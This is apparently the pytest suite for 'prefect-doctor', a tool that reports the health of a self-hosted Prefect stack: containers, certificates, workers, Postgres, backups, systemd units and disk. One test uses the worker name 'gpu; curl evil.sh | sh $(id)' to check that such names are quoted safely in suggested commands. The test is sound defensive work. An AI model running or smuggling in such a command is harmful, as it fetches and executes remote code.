"""prefect-doctor: each check says what is wrong, from which limit on, and what to do."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import requests
from prefect_backups import units as kit_units
from prefect_backups.errors import Code, Failure
from prefect_backups.unit_names import UNITS
from prefect_backups.units import Units
from prefect_doctor import asked, cli, containers, copies, database, machine, messages, units, way_in, work
from prefect_doctor.containers import Container
from prefect_doctor.database import Database
from prefect_doctor.finding import Finding, Level, graded, worst, worst_first
from prefect_doctor.machine import Disk, Machine
from prefect_doctor.registry import Group
from prefect_doctor.way_in import Answer
from prefect_doctor.work import Work
from prefect_watch.datadog_queue import Position
from prefect_watch.outbox import Message

OK, WARNING, BAD, UNKNOWN = Level
GIGABYTE = 1_000_000_000
WELL = Container("running", "healthy", 0, False, "prefecthq/prefect:3.9.1-python3.13")


def mended(finding: Finding) -> bool:
    """Whether what is not ok says what to do, and what is ok says nothing."""
    return bool(finding.mend) is (finding.level is not OK)


# --- the table ---------------------------------------------------------------------------------------------------


def test_the_worst_comes_first_and_is_the_exit_code():
    given = [
        Finding(name, level, "") for name, level in (("a", OK), ("b", WARNING), ("c", UNKNOWN), ("d", BAD), ("e", OK))
    ]
    assert [one.check for one in worst_first(given)] == ["d", "c", "b", "a", "e"]
    assert (worst(given), worst([]), worst(given[:2])) == (BAD, OK, WARNING)
    assert [graded(value, 2, 4) for value in (1, 2, 3, 4)] == [OK, WARNING, WARNING, BAD]


def test_what_cannot_be_looked_at_hides_nothing_else():
    def down() -> list[Finding]:
        raise Failure(Code.NO_DATABASE, "Postgres does not let us in", "look at: docker logs prefect-postgres")

    def broken() -> list[Finding]:
        raise KeyError("x")

    found = cli.examine({"database": down, "machine": lambda: [Finding("disk /", OK, "")], "work": broken})
    assert {one.check: one.level for one in found} == {"database": UNKNOWN, "work": UNKNOWN, "disk /": OK}
    assert found[0].mend == "look at: docker logs prefect-postgres"


def test_brackets_of_what_was_measured_are_shown(capsys):
    cli.Console(width=200).print(cli.table_of([Finding("x", BAD, "[Errno 111] refused [red]")]))
    assert "[Errno 111] refused [red]" in capsys.readouterr().out


# --- the containers ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("container", "level"),
    [
        (WELL, OK),
        (None, BAD),
        (Container("exited"), BAD),
        (Container("running", "unhealthy"), BAD),
        (Container("running", "starting"), WARNING),
        (Container("running"), OK),
    ],
)
def test_a_container_that_does_not_run(container, level):
    found = containers.running("prefect-server", container)
    assert found.level is level
    assert mended(found)


def test_a_container_that_is_restarted():
    assert containers.restarted("prefect-server", WELL).level is OK
    once, often = (Container("running", "healthy", count) for count in (1, 10))
    assert containers.restarted("prefect-server", once).level is WARNING
    assert containers.restarted("prefect-server", often).level is BAD
    killed = containers.restarted("prefect-server", Container("running", "healthy", 1, True))
    assert (killed.level, "out of memory" in killed.measured) == (BAD, True)


def test_a_container_of_another_image_than_was_deployed():
    same = containers.as_deployed("prefect-server", WELL, {"PREFECT_IMAGE": WELL.image})
    other = containers.as_deployed("prefect-server", WELL, {"PREFECT_IMAGE": "prefecthq/prefect:3.8.8-python3.13"})
    assert (same.level, other.level, other.mend) == (OK, WARNING, "systemctl reload prefect-stack")


def test_the_variables_are_those_of_the_env_file():
    written = (Path(__file__).parents[2] / "ansible/roles/stack/templates/stack.env.j2").read_text()
    assert all(f"{variable}=" in written for variable in containers.CONTAINERS.values())


# --- the public endpoint ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "level"),
    [
        (Answer(200, "", 0.1), OK),
        (Answer(200, "", 2.5), WARNING),
        (Answer(200, "", 12.0), BAD),
        (Answer(503, "no upstream", 0.1), BAD),
        (Answer(0, "no answer: refused", 0.1), BAD),
    ],
)
def test_an_answer(answer, level):
    found = way_in.answered("API", answer)
    assert found.level is level
    assert mended(found)
    if answer.status != 200:
        assert answer.words in found.measured


@pytest.mark.parametrize(
    ("days", "left", "level"),
    [
        (90, 60.0, OK),
        # Caddy renews at 30 days left.
        (90, 20.0, WARNING),
        (90, 5.0, BAD),
        (90, -1.0, BAD),
        # The authority of the server's own gives 12 hours.
        (0.5, 0.3, OK),
        (0.5, 0.04, BAD),
        # One of one's own is replaced by a person: three months before its end nobody wants to hear of it.
        (365, 60.0, OK),
        (365, 15.0, WARNING),
        (365, 6.0, BAD),
    ],
)
def test_a_certificate_that_is_not_renewed(days, left, level):
    now = 1_000_000_000.0
    found = way_in.certificate(now + (left - days) * 86400, now + left * 86400, now)
    assert found.level is level
    assert mended(found)
    assert ("expired" in found.measured) is (left < 0)


class Client:
    """A session whose answers are given."""

    def __init__(self, *statuses: int) -> None:
        self.statuses, self.asked = list(statuses), []

    def _answer(self, method: str) -> requests.Response:
        self.asked.append(method)
        made = requests.Response()
        made.status_code, made._content = self.statuses.pop(0), b"words"
        return made

    def post(self, *_: Any, **__: Any) -> requests.Response:
        return self._answer("post")

    def delete(self, *_: Any, **__: Any) -> requests.Response:
        return self._answer("delete")


@pytest.mark.parametrize(
    ("statuses", "asked", "status"),
    [
        ((201, 204), ["post", "delete"], 201),
        # Of a doctor that was killed in between.
        ((409, 204, 201, 204), ["post", "delete", "post", "delete"], 201),
        ((500,), ["post"], 500),
        ((201, 500), ["post", "delete"], 500),
    ],
)
def test_a_write_leaves_nothing_behind(statuses, asked, status):
    client = Client(*statuses)
    assert way_in.written(client, "https://x").status == status  # type: ignore[arg-type]
    assert client.asked == asked


# --- the work ------------------------------------------------------------------------------------------------------


def test_work_that_is_as_it_should_be():
    found = work.findings(Work(workers=[("general", "general-1", 12.0)], detection=(1, 1)))
    assert {one.level for one in found} == {OK}
    assert all(mended(one) for one in found)


@pytest.mark.parametrize(("latest", "level"), [(400.0, WARNING), (4000.0, BAD)])
def test_late_flow_runs(latest, level):
    found = work.late_runs(Work(late=3, latest=latest))
    assert (found.level, found.measured.startswith("3, the latest by ")) == (level, True)
    assert mended(found)


def test_flow_runs_that_stand_still():
    found = work.standing_runs(Work(standing=[("CANCELLING", 2), ("PENDING", 1)]))
    assert (found.level, found.measured) == (WARNING, "2 Cancelling, 1 Pending")
    assert mended(found)


def test_workers_that_are_silent():
    assert [one.level for one in work.workers_online(Work())] == [WARNING]
    found = work.workers_online(Work(workers=[("general", "general-1", 12.0), ("general", "far-1", 600.0)]))
    assert [(one.check, one.level) for one in found] == [("worker general-1", OK), ("worker far-1", BAD)]
    assert "prefect-worker@far-1" in found[1].mend


def test_workers_that_should_be_there_are_those_with_an_account():
    """What was taken out of the inventory, or run by hand, is shown while it is there, and not missed."""
    known = Work(
        workers=[("general", "a", 600.0), ("general", "b", 600.0), ("general", "c", 1.0)], accounts=frozenset("a")
    )
    assert [(one.check, one.level) for one in work.workers_online(known)] == [("worker a", BAD), ("worker c", OK)]
    (never,) = work.workers_online(Work(accounts=frozenset({"gpu-1"})))
    assert (never.check, never.level, never.measured) == ("worker gpu-1", BAD, "no heartbeat in 7 days")


def test_workers_of_the_inventory_have_an_account(tmp_path):
    workers = ("worker-general-1", "worker-far-1", "cluster-1")
    (tmp_path / "accounts.json").write_text(
        json.dumps({"admin": {"role": "admin"}} | {name: {"role": "worker", "pools": []} for name in workers})
    )
    assert work.accounts(tmp_path / "accounts.json") == ({"general-1", "far-1"}, {"cluster-1"})
    (tmp_path / "broken").write_text("[]")
    for name in "none", "broken":
        assert work.accounts(tmp_path / name) == (None, frozenset())


def test_a_worker_elsewhere_is_missed_once_it_was_there():
    known = Work(workers=[("cluster", "cluster-1", 600.0)], accounts=frozenset(), elsewhere=frozenset({"cluster-1"}))
    (found,) = work.workers_online(known)
    assert (found.check, found.level) == ("worker cluster-1", BAD)
    assert "docs/kubernetes.md" in found.mend and "prefect_users" in found.mend and "systemctl" not in found.mend
    # Not yet: its account comes first.
    assert [one.level for one in work.workers_online(Work(accounts=frozenset(), elsewhere=frozenset({"new"})))] == [
        WARNING
    ]


def test_a_work_pool_that_nobody_serves():
    (found,) = work.pools_served(Work(unserved=[("gpu", 4)]))
    assert (found.level, found.check, found.measured) == (
        BAD,
        "work pool gpu",
        "4 flow runs are due, but no worker is online",
    )
    assert mended(found)


@pytest.mark.parametrize(("slots", "at_work", "level"), [([], 0, OK), ([("db", 2)], 1, OK), ([("db", 2)], 0, BAD)])
def test_slots_that_nobody_holds(slots, at_work, level):
    found = work.free_slots(Work(slots=slots, at_work=at_work))
    assert found.level is level
    assert mended(found)


@pytest.mark.parametrize(("detection", "level"), [((1, 1), OK), ((0, 1), BAD), ((0, 0), BAD), ((2, 2), BAD)])
def test_crash_detection_that_is_gone(detection, level):
    found = work.crash_detection(Work(detection=detection))
    assert found.level is level
    assert mended(found)


# --- the database ----------------------------------------------------------------------------------------------------


def test_a_database_that_is_as_it_should_be():
    found = database.findings(Database(GIGABYTE, 12, 100, 0, 0.2))
    assert {one.level for one in found} == {OK}
    assert all(mended(one) for one in found)


@pytest.mark.parametrize(
    ("check", "given", "level", "words"),
    [
        (database.connections, Database(0, 75, 100, 0, 0), WARNING, "75 of 100"),
        (database.connections, Database(0, 95, 100, 0, 0), BAD, "95 of 100"),
        (database.transactions, Database(0, 1, 100, 0, 1000.0), WARNING, "the longest 17 minutes"),
        (database.transactions, Database(0, 1, 100, 0, 30_000.0), BAD, "the longest 8 hours"),
        (database.indexes, Database(0, 1, 100, 0, 0, ["ix_a", "ix_b"]), WARNING, "not valid: ix_a, ix_b"),
        (
            database.dead_rows,
            Database(0, 1, 100, 0, 0, [], [("events", 200_000, 0.61)]),
            WARNING,
            "events: 200,000 (61%)",
        ),
        (database.checksums, Database(0, 1, 100, 2, 0), BAD, "2"),
        *(
            (
                database.superusers,
                Database(0, 1, 100, 0, 0, superusers=[name]),
                WARNING,
                f"{name} can connect to the database with a password",
            )
            for name in ("prefect", "mine")
        ),
    ],
)
def test_what_is_wrong_with_a_database(check, given, level, words):
    found = check(given)
    assert (found.level, found.measured) == (level, words)
    assert mended(found)


# --- backups ---------------------------------------------------------------------------------------------------------


def test_backups():
    now = datetime(2026, 11, 27, 2, tzinfo=UTC)
    (well,) = copies.findings([], now - timedelta(minutes=40), now)
    assert (well.level, well.measured) == (OK, "the newest is 40 minutes old")
    problems = [
        "the newest backup, 20261127T000000Z, is 4.0 hours old; 3.0 hours are allowed: journalctl -u prefect-backup -n 30",
        "there is no copy in far; 3.0 hours are allowed (backups_max_age_hours); the last attempt: no route to host",
    ]
    late, copy = copies.findings(problems, now, now)
    assert (late.level, late.mend) == (BAD, "journalctl -u prefect-backup -n 30")
    assert late.measured.endswith("3.0 hours are allowed")
    assert (copy.measured, copy.mend) == (problems[1], "prefect-backup check --offsite")
    (proof,) = copies.findings(["no backup was ever verified; 9 days are allowed"], now, now)
    assert [one.check for one in (late, copy, proof)] == ["backups", "copies in far", "backup verification"]


# --- the kit's own units ---------------------------------------------------------------------------------------------


def test_units_that_are_well():
    found = units.findings(Units({name: {"ActiveState": "inactive"} for name in UNITS}, workers=2))
    assert {one.level for one in found} == {OK} and not any(one.pending for one in found)
    assert [one.check for one in found] == [*UNITS, "workers on this host", "unfinished restore"]
    assert found[-2].measured == "2 run"


def test_a_unit_that_has_failed_says_what_that_means_and_its_last_words():
    shown = {
        "ActiveState": "failed",
        "Result": "exit-code",
        "ExecMainStatus": "16",
        "ended": "100",
        "lines": "ERROR: x\nHINT: y\n",
    }
    found = units.ended("prefect-backup.service", shown, newest=0.0)
    assert (found.level, found.detail) == (BAD, "ERROR: x\nHINT: y")
    assert found.measured == (
        "failed: Postgres does not answer (result exit-code, exit code 16). Earlier backups are whole."
    )
    assert found.mend == ("docker ps --all; docker logs --tail 50 prefect-postgres; journalctl -u prefect-backup -n 30")
    # A person has made a backup since; and one that is at work is in between.
    assert units.ended("prefect-backup.service", shown, newest=101.0).level is OK
    assert units.ended("prefect-restore.service", shown, newest=101.0).level is BAD
    assert units.ended("prefect-backup.service", {**shown, "ActiveState": "activating"}, newest=0.0).pending


def test_last_words_are_those_of_the_last_run():
    said = "Starting x...\nfirst\nFinished x\nStarting x...\n  ok\nERROR: y\nFailed to start x"
    assert kit_units.last_run(said) == "  ok\nERROR: y\nFailed to start x"
    assert kit_units.last_run("a\nb") == "a\nb"
    # The journal takes lines of 48,000 characters, and no message does.
    assert kit_units.last_run(f"{'x' * 48_000}\nb") == f"{'x' * 300}\nb"


def test_names_may_have_any_characters_and_be_of_any_length():
    """What a person types is what was meant, and no terminal obeys a name."""
    name = "gpu; curl evil.sh | sh $(id)"
    seen = Work(workers=[(name, name, 500.0)], slots=[(name, 1)])
    for found in (*work.workers_online(seen), work.free_slots(seen)):
        assert name in found.mend and name not in re.sub(r"'[^']*'", "", found.mend)
    long = Finding("pool \033[2J\nOK all", Level.BAD, "x\r\n" * 9000, "", "y" * 9000, "a\nb")
    (found,) = cli.tried("work", lambda: [long])
    assert found == Finding("pool [2J OK all", Level.BAD, ("x " * 500)[:1000], "", "y" * 1000, "a\nb")


@pytest.mark.parametrize("ask", [asked.said, kit_units._said])
def test_a_line_of_the_journal_in_any_encoding_can_be_read(ask):
    assert ask("printf", r"caf\351\nb") == "caf\ufffd\nb"


def test_workers_of_this_host():
    names = ["prefect-worker@a.service", "prefect-worker@b.service"]
    found = units.workers(Units(down=names))
    assert (found.level, found.mend) == (BAD, "systemctl start prefect-worker@a.service prefect-worker@b.service")
    assert found.measured == "prefect-worker@a.service, prefect-worker@b.service do not run"
    passing = units.workers(Units(passing=names[:1]))
    assert (passing.level, passing.pending) == (OK, True)


def test_a_restore_that_did_not_end():
    found = units.unfinished_restore(Units(unfinished="the undo"))
    assert (found.level, found.measured) == (BAD, "the undo did not end")
    assert found.mend == (
        "prefect-restore --resume, prefect-restore --undo, or prefect-restore --latest (docs/restore.md)"
    )


def test_messages_that_wait():
    assert messages.findings([])[0].level is OK
    (found,) = messages.findings(
        [Message("t", "b", made=1_800_000_000.0, error="1 of 1 addresses failed: number 1 (json)")]
    )
    assert (found.level, found.mend) == (BAD, "prefect-watch test")
    assert (
        found.measured
        == "1 waiting since 2027-01-15 08:00 UTC; the last attempt: 1 of 1 addresses failed: number 1 (json)"
    )


def test_events_that_datadog_does_not_take():
    since = 1_800_000_000.0
    position = Position(error="Datadog (datadoghq.eu) answers 503", error_since=since)
    assert messages.events(Position(), since) == messages.events(position, since + 60) == []
    (found,) = messages.events(position, since + 700)
    assert (found.level, found.mend) == (WARNING, "prefect-watch test")
    assert found.measured == "since 2027-01-15 08:00 UTC: Datadog (datadoghq.eu) answers 503"


# --- the machine -----------------------------------------------------------------------------------------------------

MACHINE = Machine([Disk("/", 40 * GIGABYTE, 20 * GIGABYTE, 1000, 900)], 4 * GIGABYTE, 2 * GIGABYTE, 0.0, 0, True)


def machine_with(**changed: Any) -> Machine:
    return Machine(**{**vars(MACHINE), **changed})


def test_a_machine_that_is_as_it_should_be():
    found = machine.findings(MACHINE)
    assert {one.level for one in found} == {OK}
    assert all(mended(one) for one in found)


@pytest.mark.parametrize(
    ("disk", "level"),
    [
        (Disk("/", 400 * GIGABYTE, 100 * GIGABYTE, 1000, 900), OK),
        (Disk("/", 400 * GIGABYTE, 50 * GIGABYTE, 1000, 900), WARNING),
        (Disk("/", 400 * GIGABYTE, 10 * GIGABYTE, 1000, 900), BAD),
        # Of a small disk the bytes that are left come first.
        (Disk("/", 10 * GIGABYTE, int(2.5 * GIGABYTE), 1000, 900), WARNING),
        (Disk("/", 10 * GIGABYTE, int(0.9 * GIGABYTE), 1000, 900), BAD),
        # Full of small files.
        (Disk("/", 400 * GIGABYTE, 300 * GIGABYTE, 1000, 20), BAD),
        # A file system without a number of inodes (btrfs).
        (Disk("/", 400 * GIGABYTE, 300 * GIGABYTE, 0, 0), OK),
    ],
)
def test_a_disk_that_fills(disk, level):
    found = machine.disk(disk)
    assert found.level is level
    assert mended(found)


@pytest.mark.parametrize(
    ("check", "changed", "level"),
    [
        (machine.memory, {"memory_available": GIGABYTE // 5}, WARNING),
        (machine.memory, {"memory_available": GIGABYTE // 20}, BAD),
        (machine.memory, {"pressure": 0.1}, WARNING),
        (machine.memory, {"pressure": 0.4}, BAD),
        (machine.memory, {"pressure": None}, OK),
        (machine.killed, {"killed": 2}, WARNING),
        (machine.clock, {"clock_synchronised": False}, WARNING),
        (machine.units, {"failed": ["somebody.service"]}, WARNING),
        (machine.units, {"failed": ["prefect-firewall.service"]}, BAD),
        # A check of its own has more words for it.
        (machine.units, {"failed": ["prefect-backup.service", "prefect-worker@a.service"]}, OK),
        (machine.reboot, {"reboot": 86400.0}, OK),
        (machine.reboot, {"reboot": 10 * 86400.0}, WARNING),
    ],
)
def test_what_is_wrong_with_a_machine(check, changed, level):
    found = check(machine_with(**changed))
    assert found.level is level
    assert mended(found)


@pytest.mark.parametrize(
    ("used", "waited", "level"), [(0.9, 0.0, OK), (0.2, 0.5, OK), (0.6, 0.2, WARNING), (0.6, None, OK)]
)
def test_swap_hurts_where_processes_wait_for_it(used, waited, level):
    (found,) = machine.swap(machine_with(swap=GIGABYTE, swap_free=int(GIGABYTE * (1 - used)), some_pressure=waited))
    assert found.level is level
    assert mended(found)
    assert machine.swap(MACHINE) == []


def test_what_the_system_says():
    text = "some avg10=0.00 avg60=0.00 avg300=1.50 total=9\nfull avg10=0.00 avg60=0.00 avg300=12.50 total=9\n"
    assert machine.pressure_of(text) == 0.125
    assert machine.pressure_of(text, "some") == 0.015
    assert machine.pressure_of("") is None
    assert {one.path for one in machine.disks(["/", "/", "/does/not/exist"])} == {"/"}


def test_json_is_what_the_table_is(monkeypatch, capsys):
    monkeypatch.setattr(cli.os, "geteuid", lambda: 0)
    monkeypatch.setattr(cli, "MOVED", Path("/does/not/exist"))
    monkeypatch.setattr(cli.settings, "load", lambda: None)
    monkeypatch.setattr(cli.Host, "here", lambda *_: None)
    monkeypatch.setattr(
        cli, "groups", lambda *_: {"a": Group(lambda: [Finding("disk /", WARNING, "86% used", "less", "du")])}
    )
    monkeypatch.setattr("sys.argv", ["prefect-doctor", "--json"])
    assert cli.main() == 1
    said = json.loads(capsys.readouterr().out)
    assert (said["worst"], said["findings"][0]) == (
        "WARNING",
        {"check": "disk /", "level": "WARNING", "measured": "86% used", "allowed": "less", "mend": "du"},
    )


def test_a_host_that_the_server_has_left_is_none_to_look_at(monkeypatch, capsys, tmp_path):
    monkeypatch.setattr(cli.os, "geteuid", lambda: 0)
    monkeypatch.setattr(cli, "MOVED", tmp_path)
    monkeypatch.setattr("sys.argv", ["prefect-doctor"])
    assert cli.main() == 3
    assert "the server of this host has moved" in capsys.readouterr().err
